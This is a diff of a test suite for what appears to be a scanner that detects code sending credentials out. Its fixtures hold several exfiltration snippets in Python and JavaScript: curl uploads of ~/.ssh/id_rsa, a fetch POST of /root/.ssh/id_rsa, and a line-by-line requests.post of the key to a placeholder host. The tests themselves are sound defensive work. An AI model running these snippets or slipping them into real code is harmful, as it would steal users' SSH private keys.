@@ -98,7 +98,7 @@ describe('credentials that are sent are found', () => {
     ],
     [
       'by a command of another program',
-      py('import subprocess', 'subprocess.run("curl -d @$HOME/.ssh/id_rsa ' + host + '", shell=True)'),
+      py('import subprocess', `subprocess.run("curl -d @$HOME/.ssh/id_rsa ${host}", shell=True)`),
     ],
     ['as a list of words', py('import subprocess', `subprocess.run(["curl", "-T", "~/.ssh/id_rsa", "${host}"])`)],
     [
@@ -133,7 +133,7 @@ describe('credentials that are sent are found', () => {
       'by what is destructured',
       js(
         'const { readFileSync: r } = require("fs");',
-        'const send = ({ body }) => fetch("' + host + '", { method: "POST", body });',
+        `const send = ({ body }) => fetch("${host}", { method: "POST", body });`,
         'send({ body: r("/root/.ssh/id_rsa", "utf8") });',
       ),
     ],
@@ -146,6 +146,11 @@ describe('credentials that are sent are found', () => {
   ];
   it.each(ways)('%s', async (_way, files) => {
     expect((await judged(files)).join()).toContain('sends-credentials');
+  });
+
+  it('line by line', async () => {
+    const text = `import requests\nfor l in open("~/.ssh/id_rsa"):\n    requests.post("${host}", data=l)\n`;
+    expect(await judged({ 'a.py': text })).toEqual(['sends-credentials a.py:3']);
   });
 
   it('across two files, whichever comes first', async () => {
